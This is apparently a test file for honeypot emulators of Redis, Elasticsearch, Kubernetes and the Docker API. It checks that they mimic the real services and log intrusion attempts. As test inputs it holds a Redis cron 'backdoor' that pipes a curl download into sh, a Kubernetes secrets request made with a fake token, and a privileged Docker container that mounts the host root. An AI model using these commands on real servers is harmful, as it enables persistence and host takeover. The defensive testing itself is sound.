import { Redis } from 'ioredis'
import { describe, expect, it } from 'vitest'
import { closeStartedAfterEach, rawClient, startTestEmulator } from './helpers.ts'

closeStartedAfterEach()

describe('redis emulator', () => {
  it('speaks RESP to a real client: PING, INFO, CONFIG GET, KEYS, GET, SCAN, SET, AUTH all logged', async () => {
    const redis = await startTestEmulator('redis', { config: { version: '6.2.14' } })
    const client = new Redis({
      host: redis.host,
      port: redis.port,
      lazyConnect: true,
      maxRetriesPerRequest: 0,
      enableReadyCheck: false,
    })
    try {
      await client.connect()
      expect(await client.ping()).toBe('PONG')
      expect(await client.info('server')).toMatch(/redis_version:6\.2\.14\r\n[\s\S]*os:Linux /)
      expect(await client.config('GET', 'dir')).toEqual(['dir', '/var/lib/redis'])
      const keys = await client.keys('*')
      expect(keys.some((key) => key.startsWith('session:'))).toBe(true)
      expect(await client.get('config:smtp_password')).toMatch(/^\w+\d{4}!$/)
      const [cursor, scanned] = await client.scan('0', 'MATCH', 'cache:*')
      expect(cursor).toBe('0')
      expect(scanned.every((key) => key.startsWith('cache:'))).toBe(true)
      expect(await client.set('backdoor', '*/1 * * * * curl x|sh')).toBe('OK')
      expect(await client.get('backdoor')).toBe('*/1 * * * * curl x|sh')
      await expect(client.call('AUTH', 'default', 'redispass')).rejects.toThrow(
        /without any password configured/,
      )
      await expect(client.call('FOOBAR', 'x')).rejects.toThrow(/unknown command 'foobar'/)
      const set = await redis.waitFor((e) => e.event === 'command' && e.fields.cmd === 'SET')
      expect(JSON.parse(String(set.fields.args))).toEqual(['backdoor', '*/1 * * * * curl x|sh'])
      const auth = await redis.waitFor((e) => e.event === 'auth_attempt')
      expect(auth.fields).toMatchObject({ username: 'default', password: 'redispass', success: false })
    } finally {
      client.disconnect()
      await redis.running.close()
    }
  })

  it('answers inline commands and requires AUTH when a password is configured', async () => {
    const redis = await startTestEmulator('redis', { config: { password: 's3cr3t' } })
    const client = await rawClient(redis.host, redis.port)
    client.send('KEYS *\r\n')
    await client.expect(/^-NOAUTH Authentication required\.\r\n$/)
    client.send('AUTH wrong\r\n')
    await client.expect(/^-WRONGPASS/)
    client.send('AUTH s3cr3t\r\nDBSIZE\r\n')
    await client.expect(/^\+OK\r\n:\d+\r\n$/)
    client.close()
  })
})

describe('elasticsearch emulator', () => {
  it('answers the root (version from the persona), _cat/indices and logs _search bodies', async () => {
    const es = await startTestEmulator('elasticsearch')
    const base = `http://${es.host}:${es.port}`
    const root = await fetch(`${base}/`)
    expect(root.headers.get('x-elastic-product')).toBe('Elasticsearch')
    const body = (await root.json()) as { tagline: string; version: { number: string }; name: string }
    expect(body.tagline).toBe('You Know, for Search')
    expect(body.version.number).toMatch(/^[78]\.\d+\.\d+$/)
    expect(body.name).toBe('SRV-DELTA-42')
    expect(await (await fetch(`${base}/_cat/indices?v`)).text()).toMatch(/green open customers/)
    const search = await fetch(`${base}/users/_search`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ query: { match_all: {} } }),
    })
    expect(((await search.json()) as { hits: { hits: unknown[] } }).hits.hits.length).toBeGreaterThan(0)
    const event = await es.waitFor((e) => e.event === 'request' && e.fields.path === '/users/_search')
    expect(event.fields).toMatchObject({ method: 'POST', query: '{"query":{"match_all":{}}}' })
  })
})

describe('k8s emulator', () => {
  it('serves version, api discovery, namespaces, pods and flags secrets requests', async () => {
    // TLS on the first port (6443), plain HTTP on the second (8080).
    const k8s = await startTestEmulator('k8s', { ports: [0, 0] })
    const base = `http://${k8s.host}:${k8s.running.ports[1]}`
    const version = (await (await fetch(`${base}/version`)).json()) as { gitVersion: string }
    expect(version.gitVersion).toMatch(/^v1\.\d+\.\d+$/)
    expect(((await (await fetch(`${base}/api`)).json()) as { kind: string }).kind).toBe('APIVersions')
    const namespaces = (await (await fetch(`${base}/api/v1/namespaces`)).json()) as {
      items: { metadata: { name: string } }[]
    }
    expect(namespaces.items.map((n) => n.metadata.name)).toContain('kube-system')
    const pods = (await (await fetch(`${base}/api/v1/pods`)).json()) as { kind: string; items: unknown[] }
    expect(pods.kind).toBe('PodList')
    const secrets = await fetch(`${base}/api/v1/namespaces/kube-system/secrets`, {
      headers: { Authorization: 'Bearer eyJhbGciOi.fake.token' },
    })
    expect(((await secrets.json()) as { kind: string }).kind).toBe('SecretList')
    const event = await k8s.waitFor((e) => e.event === 'request' && e.fields.resource === 'secrets')
    expect(event.fields.path).toBe('/api/v1/namespaces/kube-system/secrets')
    const auth = await k8s.waitFor((e) => e.event === 'auth_attempt')
    expect(auth.fields).toMatchObject({ kind: 'http_bearer', password: 'eyJhbGciOi.fake.token' })
  })
})

describe('docker_api emulator', () => {
  it('answers /_ping, /version, listings and logs container creation', async () => {
    const docker = await startTestEmulator('docker_api')
    const base = `http://${docker.host}:${docker.port}`
    const ping = await fetch(`${base}/_ping`)
    expect(await ping.text()).toBe('OK')
    expect(ping.headers.get('api-version')).toMatch(/^1\.4\d$/)
    expect(((await (await fetch(`${base}/v1.41/version`)).json()) as { Version: string }).Version).toMatch(
      /^\d+\.\d+\.\d+$/,
    )
    expect(((await (await fetch(`${base}/containers/json`)).json()) as unknown[]).length).toBeGreaterThan(0)
    expect(((await (await fetch(`${base}/images/json`)).json()) as unknown[]).length).toBeGreaterThan(0)
    const created = await fetch(`${base}/v1.41/containers/create`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({
        Image: 'alpine',
        Cmd: ['sh', '-c', 'chroot /mnt sh'],
        HostConfig: { Binds: ['/:/mnt'], Privileged: true },
      }),
    })
    expect(created.status).toBe(201)
    const event = await docker.waitFor((e) => e.event === 'request' && e.fields.action === 'container_create')
    expect(event.fields).toMatchObject({ image: 'alpine', binds: '["/:/mnt"]', privileged: true })
  })
})
